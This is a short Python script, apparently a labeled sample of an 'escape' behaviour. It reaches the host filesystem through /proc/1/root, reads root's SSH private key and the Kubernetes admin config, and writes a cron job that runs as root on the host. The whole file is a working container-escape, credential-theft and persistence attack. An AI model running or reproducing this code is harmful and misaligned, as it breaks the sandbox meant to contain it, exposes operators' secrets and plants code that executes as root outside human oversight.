# class: escape, root of process 1; style: explores, then writes
import os
r = "/proc/1/root"
for p in ("etc/hostname", "root/.ssh/id_rsa", "etc/kubernetes/admin.conf"):
    try: print(p, open(os.path.join(r, p)).read()[:80])
    except OSError as e: print(p, e)
with open(r + "/etc/cron.d/0x", "w") as f: f.write("* * * * * root touch /tmp/0wned\n")
